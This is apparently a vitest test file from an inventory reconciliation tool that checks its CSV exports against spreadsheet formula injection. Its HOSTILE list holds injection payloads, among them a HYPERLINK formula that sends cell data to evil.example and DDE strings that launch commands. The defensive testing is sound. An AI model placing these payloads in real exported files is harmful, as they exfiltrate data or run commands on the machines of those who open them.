import { parse } from 'csv-parse/sync';
import { PassThrough } from 'node:stream';
import { describe, expect, it } from 'vitest';
import { csvRow } from '../../lib/cli/output.js';
import { spreadsheetText } from '../../lib/core/records/csv.js';
import { DISCREPANCY_FIELDS } from '../../lib/core/reconcile/discrepancy.js';
import { journalCsv } from '../../lib/core/cases/journal/journal-csv.js';
import { buildJournalEntry } from '../../lib/core/cases/journal/journal-entry.js';
import { ResolutionSchema } from '../../lib/core/cases/resolution.js';
import { csvRows, renderCsv } from '../../lib/report/csv.js';
import { caseFacts, defaultConfig } from '../core/cases/case-factories.js';
import { discrepancy } from './factories.js';

// Text that a spreadsheet would run as a formula (OWASP, CSV injection) reaches no cell's start in
// the three CSVs people open in Excel; numbers stay numbers.
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?d="&A1,"click")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '-1+1',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
];

function formulaStart(cell: string): boolean {
  return /^[\s]*[=+\-@＝＋－＠]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell);
}

function cellsOf(text: string): string[][] {
  return parse(text, { bom: true, relax_column_count: true }) as string[][];
}

describe('spreadsheet formula injection', () => {
  it('prefixes every formula-like text with a quote, and leaves numbers and plain text alone', () => {
    for (const text of HOSTILE) expect(spreadsheetText(text)).toBe(`'${text}`);
    for (const text of ['-12.5', '-600', '0.01', '12', 'WH-上海-02', 'PO-0000102,"rush"', '']) {
      expect(spreadsheetText(text)).toBe(text);
    }
  });

  it('neutralises discrepancies.csv (stocktally reconcile): ids in every text column, numbers kept', () => {
    const text = HOSTILE.map((h, i) =>
      csvRow(discrepancy({ warehouseId: h, sku: `${h}-${i}`, documentRef: h, quantityDelta: '-2' })),
    ).join('');

    const rows = cellsOf(text);
    expect(rows).toHaveLength(HOSTILE.length);
    for (const row of rows) {
      for (const cell of row) expect(formulaStart(cell), cell).toBe(false);
      expect(row[DISCREPANCY_FIELDS.indexOf('quantityDelta')]).toBe('-2');
    }
    expect(rows[0]?.[DISCREPANCY_FIELDS.indexOf('warehouseId')]).toBe(`'${HOSTILE[0]}`);
  });

  it('neutralises the run report’s CSV', async () => {
    const out = new PassThrough();
    const chunks: Buffer[] = [];
    out.on('data', (c: Buffer) => chunks.push(c));
    async function* rows() {
      for (const h of HOSTILE) yield discrepancy({ warehouseId: h, documentRef: h, amountDelta: '-200.00' });
    }

    await renderCsv(csvRows(rows()), out);

    const cells = cellsOf(Buffer.concat(chunks).toString('utf8')).slice(1);
    expect(cells).toHaveLength(HOSTILE.length);
    for (const row of cells) for (const cell of row) expect(formulaStart(cell), cell).toBe(false);
    expect(cells.every((row) => row.includes('-200.00'))).toBe(true);
  });

  it('neutralises the journal-entry export (memo, warehouse, document, voucher)', () => {
    const entries = HOSTILE.map((h) => {
      const built = buildJournalEntry(
        ResolutionSchema.parse({ action: 'supplement-voucher', voucherRef: h, memo: h }),
        caseFacts({ warehouseId: h, documentRef: h, sku: h }),
        defaultConfig(),
        { entryId: 'ST-202610-00000000-3', caseId: 'case-1' },
      );
      if (!built.ok || built.entry === null) throw new Error('no entry');
      return built.entry;
    });

    const rows = cellsOf(journalCsv(entries)).slice(1);
    expect(rows).toHaveLength(HOSTILE.length * 2);
    for (const row of rows) for (const cell of row) expect(formulaStart(cell), cell).toBe(false);
    expect(rows[0]?.[7]).toBe('60000.00');
  });
});
